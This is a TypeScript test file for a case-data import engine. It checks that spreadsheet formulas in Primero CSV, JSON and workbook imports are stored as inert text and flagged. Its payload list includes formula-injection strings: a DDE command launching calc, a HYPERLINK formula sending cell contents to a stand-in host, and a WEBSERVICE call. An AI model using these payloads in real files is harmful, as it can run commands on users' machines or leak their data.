// Text that a spreadsheet would run: it comes through exactly, as data, and is never worked out.
import { afterAll, expect, it } from 'vitest';
import { stored } from '../support/attacks.ts';
import { cleanUp, importFile, organisation } from '../support/engines.ts';
import { writeCsv, writeJson } from '../support/primero-writers.ts';
import { writeWorkbook } from '../support/workbook-writer.ts';

afterAll(cleanUp);

const id = '00000000-0000-4000-8000-000000000001';
const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
  "=cmd|'/c calc'!A0",
  '+999550123',
  '-2+3',
  '@SUM(A1:A9)',
  '|calc',
  '%0A=1',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  "'=1+1",
  "''=1+1",
  "'plain",
  '＝1+1',
  '"=1+1"',
  '=1+1\n=2+2',
  '{=1+1}',
];

it.each(['2.15', '2.14'] as const)('in a CSV of Primero %s', async (generation) => {
  const hope = await organisation('Hope for Children');
  // Primero puts its ' before a sign, and not before a ': a text that begins with both looks like one that is guarded.
  const told = formulas.filter((text) => !text.startsWith("'="));
  const fields = told.map((_, index) => `field_${index}`);
  const data = Object.fromEntries(told.map((text, index) => [`field_${index}`, text]));
  const content = writeCsv(['name', 'sex', ...fields], [{ id, data: { name: 'x', sex: 'male', ...data } }], generation);
  const batch = await importFile(hope, await hope.file('cases.csv', content));
  expect((await stored(hope, batch.id))[id]).toEqual({ name: 'x', sex: 'male', ...data });
});

it('in a JSON, in its subforms, too', async () => {
  const hope = await organisation('Hope for Children');
  const data = {
    ...Object.fromEntries(formulas.map((text, index) => [`field_${index}`, text])),
    services_section: formulas.map((text) => ({ service_referral_notes: text })),
  };
  const batch = await importFile(hope, await hope.file('cases.json', writeJson([{ id, data }], 500)));
  expect((await stored(hope, batch.id))[id]).toEqual(data);
});

it('in a workbook: guarded text loses its guard, a formula is told and gives its last result only', async () => {
  const hope = await organisation('Hope for Children');
  const rows = [
    ['ID', 'Full Name', 'Nickname', 'Current Address'],
    ['a', "'=1+1", "'@SUM(A1)", "'+999550123"],
    ['b', { formula: 'WEBSERVICE("http://example.invalid")', result: '=2+2' }, 'x', 'y'],
  ];
  const batch = await importFile(
    hope,
    await hope.file('cases.xlsx', writeWorkbook([{ name: 'Basic Identity', rows }])),
  );
  expect(await stored(hope, batch.id)).toMatchObject({
    '~a': { name: '=1+1', name_nickname: '@SUM(A1)' },
    '~b': { name: '=2+2' },
  });
  const told = await hope.engine.call('batch.issues', { batch: batch.id });
  expect(told.map(({ code }) => code)).toContain('value.formula');
});
